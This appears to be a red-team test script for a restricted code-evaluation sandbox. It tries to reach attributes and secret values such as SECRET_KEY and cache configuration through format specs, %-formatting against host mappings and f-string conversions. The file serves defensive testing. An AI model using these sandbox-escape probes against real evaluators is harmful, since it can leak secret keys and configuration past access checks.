# ruff: noqa - a hostile script, kept as written
# threat: 4 evaluate code or attribute paths outside the checks
# technique: format specs and %-formatting as attribute paths: format() of proxies and data with field-like specs, %(name)s against host mappings, f-string conversions
# red team: 6d8a476, wide allowlist
engine = app.state.engine
seen = []
attempts = [lambda: format(app.state, "{0.__class__}"), lambda: format(engine, ""),
            lambda: "%(SECRET_KEY)s" % engine.holder, lambda: "%(config)s" % engine.holder,
            lambda: f"{engine.cache_config!r}", lambda: format(1, "{0.__class__}"),
            lambda: "%s %r" % (engine.cache_config, engine.holder),
            lambda: format(engine.l1.write_ttl_seconds, ">10")]
for attempt in attempts:
    try:
        seen.append(attempt())
    except Exception as exc:
        seen.append(repr(exc)[:60])
result = repr(seen)
